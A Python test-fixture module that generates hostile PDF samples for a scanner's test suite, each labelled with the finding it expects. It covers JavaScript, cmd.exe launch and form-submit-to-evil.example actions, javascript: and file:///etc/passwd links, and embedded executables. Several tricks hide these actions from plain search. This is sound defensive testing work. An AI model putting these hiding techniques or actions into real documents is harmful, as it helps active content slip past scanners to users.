"""PDFs that do something: every action in every place where one may stand, in the open and hidden."""

import zlib
from collections.abc import Iterator

from tests.documents.hostile.building import Case, case, obj, packed, pdf, stream

ACTIONS = {
    "javascript": b"/S/JavaScript/JS(app.alert(1))",
    "launch": b"/S/Launch/Win<</F(cmd.exe)>>",
    "other-file": b"/S/GoToR/F(other.pdf)/D[0/Fit]",
    "inner-file": b"/S/GoToE/T<</R/C/N(inner)>>",
    "send-form": b"/S/SubmitForm/F(http://evil.example/)",
    "import": b"/S/ImportData/F(data.fdf)",
    "rendition": b"/S/Rendition/OP 0",
    "movie": b"/S/Movie/Operation/Play",
    "sound": b"/S/Sound/Sound 9 0 R",
}
LINK = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<%s>>>>"


def hidden(action: bytes) -> bytes:
    """Every second letter of every name as a number."""
    name = action[3 : action.index(b"/", 3)]
    odd = b"".join(b"#%02x" % byte if at % 2 else bytes([byte]) for at, byte in enumerate(name))
    return action.replace(name, odd, 1)


def in_objects(action: bytes) -> bytes:
    """In a stream of objects, where no plain search finds it."""
    body = b"<<%s>>" % action
    return packed(9, b"10 0 " + body, b"/Type/ObjStm/N 1/First 5")


def list_actions() -> Iterator[Case]:
    for name, action in ACTIONS.items():
        places = {
            "opened": pdf(catalog=b"/OpenAction<<%s>>" % action),
            "turned": pdf(page=b"/AA<</O<<%s>>>>" % action),
            "pressed": pdf(obj(9, LINK % action), page=b"/Annots[9 0 R]"),
            "listed": pdf(catalog=b"/Names<</JavaScript<</Names[(a)<<%s>>]>>>>" % action),
            "packed": pdf(in_objects(action), catalog=b"/OpenAction 10 0 R"),
            "spelled": pdf(catalog=b"/OpenAction<<%s>>" % hidden(action)),
            "in-stream": pdf(
                stream(9, b"q Q\n10 0 obj<<%s>>endobj\n" % action), catalog=b"/OpenAction 10 0 R"
            ),
            "behind-bracket": pdf(
                b"( not closed\n", obj(9, b"<<%s>>" % action), catalog=b"/OpenAction 9 0 R"
            ),
        }
        for place, data in places.items():
            yield case(f"pdf-{name}-{place}", data, "active_content")
    yield from list_links()


def list_links() -> Iterator[Case]:
    for at, address in enumerate(
        (b"javascript:alert(1)", b"file:///etc/passwd", b"data:text/html,x", b"VBScript:x")
    ):
        link = LINK % (b"/S/URI/URI(%s)" % address)
        spelled = LINK % (b"/S/URI/URI<%s>" % address.hex().encode())
        yield case(f"pdf-address-{at}", pdf(obj(9, link), page=b"/Annots[9 0 R]"), "active_content")
        yield case(
            f"pdf-address-spelled-{at}", pdf(obj(9, spelled), page=b"/Annots[9 0 R]"), "active_content"
        )


def attached(*files: tuple[str, bytes], about: bytes = b"") -> bytes:
    """Files in a PDF, as readers list them."""
    parts, names = [], []
    for at, (name, data) in enumerate(files):
        number = 20 + 2 * at
        parts.append(stream(number, zlib.compress(data), b"/Type/EmbeddedFile/Filter/FlateDecode"))
        title = name.encode()
        parts.append(
            obj(
                number + 1,
                b"<</Type/Filespec/F(%s)/UF(%s)/EF<</F %d 0 R>>%s>>" % (title, title, number, about),
            )
        )
        names.append(b"(%s)%d 0 R" % (title, number + 1))
    return pdf(*parts, catalog=b"/Names<</EmbeddedFiles<</Names[%s]>>>>" % b" ".join(names))


def list_contents() -> Iterator[Case]:
    xml = b"<a/>"
    bad = ("nested_too_deep", "unpacks_too_large", "active_content", "damaged")
    files = {
        "program": [("a.exe", b"MZ")],
        "macros": [("a.docm", b"PK\x03\x04")],
        "archive": [("a.zip", b"PK\x03\x04")],
        "pdf": [("a.pdf", pdf())],
        "two": [("a.xml", xml), ("b.xml", xml)],
        "large-xml": [("a.xml", b"<a>" + b" " * 1_100_000 + b"</a>")],
        "declaring-xml": [("a.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')],
        "no-xml": [("a.xml", b"MZ not xml")],
        "deep-xml": [("a.xml", b"<a>" * 400 + b"</a>" * 400)],
        "called-xml": [("a.xml.exe", xml)],
    }
    for name, inside in files.items():
        yield case(f"pdf-with-{name}", lambda inside=inside: attached(*inside), *bad)
    note = b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/EF<</F 9 0 R>>>>>>"
    body = stream(9, b"MZ", b"/Type/EmbeddedFile")
    yield case("pdf-file-pinned", pdf(body, obj(10, note), page=b"/Annots[10 0 R]"), "active_content")
    yield case("pdf-file-alone", pdf(body), "nested_too_deep")
    yield case("pdf-portfolio", pdf(catalog=b"/Collection<</View/D>>"), "active_content")
    yield case("pdf-xfa", pdf(catalog=b"/AcroForm<</XFA[(a)9 0 R]>>"), "active_content")
    yield case(
        "pdf-film",
        pdf(obj(9, b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>"), page=b"/Annots[9 0 R]"),
        "active_content",
    )
    yield case(
        "pdf-model",
        pdf(obj(9, b"<</Type/Annot/Subtype/3D/Rect[0 0 9 9]>>"), page=b"/Annots[9 0 R]"),
        "active_content",
    )
    yield case("pdf-stream-elsewhere", pdf(stream(9, b"", b"/F(\\\\\\\\evil\\\\share)")), "active_content")
    yield case(
        "pdf-stream-elsewhere-packed",
        pdf(stream(9, b"", b"/FFilter/FlateDecode/F<</F(x)>>")),
        "active_content",
    )
